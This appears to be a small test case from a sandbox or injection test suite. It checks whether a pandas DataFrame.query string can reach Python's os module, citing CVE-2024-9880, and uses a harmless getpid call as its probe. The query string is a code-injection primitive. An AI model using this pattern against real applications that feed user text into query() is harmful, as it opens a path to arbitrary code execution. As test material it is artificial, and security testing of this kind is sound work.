# aim: reach Python from the text of a query
# mechanism: DataFrame.query with @ and a call
# source: CVE-2024-9880 (pandas, disputed by its makers)
# language: builtins
# reason: texts of queries are checked as code
# jail: process
# plain: loot
# imports: pandas
import pandas
frame = pandas.DataFrame({"a": [1]})
found = []
try:
    frame.query("@pandas.compat.os.getpid() >= 0", local_dict={"pandas": pandas})
    loot("mutated: a query called os")
except Exception as error:
    loot(str(error))
